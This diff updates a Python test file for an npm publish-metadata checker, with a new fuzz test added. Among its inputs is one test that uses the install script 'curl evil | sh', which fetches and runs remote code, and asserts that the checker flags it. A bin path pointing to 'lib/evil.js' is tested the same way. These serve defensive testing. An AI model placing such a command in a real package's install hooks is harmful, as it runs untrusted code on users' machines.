@@ -7,6 +7,8 @@ import json
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from extgate import Options, check
 from extgate.gates.manifest.publish import metadata_mismatches
@@ -66,7 +68,8 @@ def test_npm_normalizations_are_not_mismatches() -> None:
         "version": "1.0.0",
         "bin": "./cli.js",
         "bundledDependencies": ["a"],
-        "dependencies": {"a": "1.0.0"},
+        "dependencies": {"a": "1.0.0", "fsevents": "2"},
+        "optionalDependencies": {"fsevents": "2"},
     }
     published = {
         "name": "@acme/tool",
@@ -74,12 +77,18 @@ def test_npm_normalizations_are_not_mismatches() -> None:
         "bin": {"tool": "cli.js"},
         "bundleDependencies": ["a"],
         "dependencies": {"a": "1.0.0"},
+        "optionalDependencies": {"fsevents": "2"},
         "scripts": {"install": "node-gyp rebuild"},
         "_id": "x",
         "dist": {},
     }
-    assert metadata_mismatches(published, tarball) == []
+    assert metadata_mismatches(published, tarball, frozenset({"binding.gyp"})) == []
+    # the derived install script is accepted only when the tarball really has a binding.gyp
+    assert [m[0] for m in metadata_mismatches(published, tarball)] == ["scripts"]
     assert metadata_mismatches({**published, "scripts": {"install": "curl evil | sh"}}, tarball) != []
+    in_dir = {"name": "t", "version": "1.0.0", "directories": {"bin": "./bin"}}
+    assert metadata_mismatches({**in_dir, "bin": {"t": "bin/t.js"}}, in_dir) == []
+    assert [m[0] for m in metadata_mismatches({**in_dir, "bin": {"t": "lib/evil.js"}}, in_dir)] == ["bin"]
 
 
 def _mutate(doc: dict[str, Any], how: str) -> dict[str, Any]:
@@ -163,3 +172,20 @@ def test_provenance_bundle_beside_the_tarball_is_allowed() -> None:
         "length": 8,
     }
     assert read_publish_document(encode(doc))[1].problems == ()
+
+
+_JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
+    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
+    max_leaves=20,
+)
+_KEYS = st.sampled_from(["name", "versions", "_attachments", "dist-tags", "data", "length", "dist", "version"])
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.dictionaries(_KEYS, _JSON, max_size=5) | st.binary(max_size=200))
+def test_any_document_is_read_without_raising(document: Any) -> None:
+    body = document if isinstance(document, bytes) else json.dumps(document).encode()
+    tarball, claim = read_publish_document(body)
+    assert isinstance(tarball, bytes)
+    assert claim.problems or (claim.version and claim.attachment)  # nothing passes without one checked tarball
